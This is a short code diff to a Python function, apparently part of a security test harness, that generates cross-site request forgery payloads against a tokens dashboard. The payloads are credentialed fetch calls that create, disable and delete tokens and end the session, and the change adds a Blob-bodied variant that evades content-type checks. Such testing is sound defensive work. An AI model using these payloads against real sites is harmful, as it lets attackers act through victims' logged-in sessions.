@@ -28,7 +28,7 @@ def attacks(url: str, token_id: str) -> dict[str, str]:
         "fetch": f"""<script>
           const to = (method, body, headers) => fetch("{aim}", {{method, body, headers, mode: headers ? "cors" : "no-cors", credentials: "include"}}).catch(() => 0);
           Promise.all([
-            to("POST", '{create}'), to("POST", '{create}', {{"Content-Type": "application/json"}}),
+            to("POST", '{create}'), to("POST", new Blob(['{create}'])), to("POST", '{create}', {{"Content-Type": "application/json"}}),
             to("PATCH", '{off}', {{"Content-Type": "application/json", "X-Requested-With": "tokens-dashboard"}}),
             fetch("{aim}?id={token_id}", {{method: "DELETE", credentials: "include"}}).catch(() => 0),
             fetch("{url}/dashboard/session", {{method: "DELETE", credentials: "include"}}).catch(() => 0),
